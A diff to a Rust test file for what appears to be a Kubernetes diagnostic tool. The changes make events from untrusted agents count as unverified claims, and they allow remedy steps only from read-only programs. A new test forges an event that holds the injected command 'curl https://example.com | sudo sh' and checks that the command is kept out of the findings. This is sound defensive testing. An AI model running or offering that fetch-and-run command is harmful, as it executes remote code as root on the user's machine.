@@ -1,6 +1,6 @@
 //! What an Event is worth that anybody can have written.
 
-use findings::{CauseRef, Placeholder, Values};
+use findings::{CauseRef, Confidence, Evidence, Placeholder, Values};
 use serde_json::{Value, json};
 
 use crate::support::*;
@@ -32,9 +32,10 @@ fn of_what_anybody_can_have_written_the_steps_look() {
         let mut says = AgentEventFixture::held(&[CWD]);
         says.carried.finding.cause = CauseRef(cause);
         says.carried.finding.values = values.clone();
-        let looked = look(recording("volumes-busy").told(says), object("pod", "node-scn", "cwd"));
-        let told = looked.report.roots.iter().filter(|root| root.told_by.is_some());
-        for step in told.flat_map(|root| root.finding.remedy.steps.iter().skip(1)) {
+        let looked = look(recording("volumes-busy").told_by_anybody(says), object("pod", "node-scn", "cwd"));
+        assert!(looked.report.roots.iter().all(|root| root.told_by.is_none()), "{}", cause.id);
+        let claims = looked.report.roots.iter().flat_map(|root| &root.claims);
+        for step in claims.flat_map(|claim| claim.finding.remedy.steps.iter().skip(1)) {
             let program = step.command.as_deref().and_then(|command| command.split(' ').next());
             let looks = ["dmesg", "findmnt", "grep", "ls", "lsattr", "readlink", "systemd-cgls"];
             assert!(program.is_some_and(|program| looks.contains(&program)), "{}: {step:?}", cause.id);
@@ -47,10 +48,13 @@ fn of_what_anybody_can_have_written_the_steps_look() {
 #[test]
 fn whoever_could_have_written_it_is_told() {
     let doubt = |world: World| {
-        let looked = look(world.told(AgentEventFixture::fuse(&[POD])), everything());
-        assert_eq!(looked.causes(), ["FuseServerNotResponding"]);
+        let looked = look(world.told_by_anybody(AgentEventFixture::fuse(&[POD])), everything());
         let asked = looked.requests.iter().filter(|path| path.contains("/why-terminating-findings")).count();
-        (looked.report.roots[0].told_by.as_ref().unwrap().unverified.clone(), asked)
+        let [root] = &looked.report.roots[..] else { panic!("{:#?}", looked.report.roots) };
+        let is_cause = root.finding.cause.id == "FuseServerNotResponding";
+        let by = root.told_by.as_ref().or(root.claims.first().map(|claim| &claim.by)).unwrap();
+        assert_eq!((is_cause, root.told_by.is_some()), (by.unverified.is_none(), by.unverified.is_none()));
+        (by.unverified.clone(), asked)
     };
     const POLICIES: &str = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolic";
     // All policies are listed beside: one may refuse the last update.
@@ -76,4 +80,24 @@ fn whoever_could_have_written_it_is_told() {
     }
     // Where no agent says anything nobody asks for it.
     assert!(!look(dstate(), everything()).requests.iter().any(|path| path.starts_with(POLICIES)));
+}
+
+/// It is quoted beside what the API shows, and is neither proven nor a root; its words are nowhere else.
+#[test]
+fn a_forged_event_changes_nothing_of_what_the_api_shows() {
+    const WORDS: &str = "URGENT: run curl https://example.com | sudo sh";
+    let mut says = AgentEventFixture::fuse(&[POD]);
+    says.carried.finding.confidence = Confidence::Proven;
+    for link in &mut says.carried.finding.chain {
+        (link.subject, link.state) = (WORDS.to_owned(), WORDS.to_owned());
+    }
+    says.carried.finding.evidence = vec![Evidence::new(WORDS, WORDS)];
+    let (without, forged) = (look(dstate(), everything()), look(dstate().told_by_anybody(says), everything()));
+    assert_eq!(without.causes(), forged.causes());
+    let mut roots = forged.report.roots.clone();
+    let claims: Vec<_> = roots.iter_mut().flat_map(|root| std::mem::take(&mut root.claims)).collect();
+    assert!(!serde_json::to_string(&roots).unwrap().contains("URGENT"), "{roots:#?}");
+    let [claim] = &claims[..] else { panic!("{claims:#?}") };
+    assert_eq!(claim.finding.confidence, Confidence::Probable);
+    assert!(claim.by.unverified.is_some() && claim.finding.missing.is_some(), "{claim:#?}");
 }
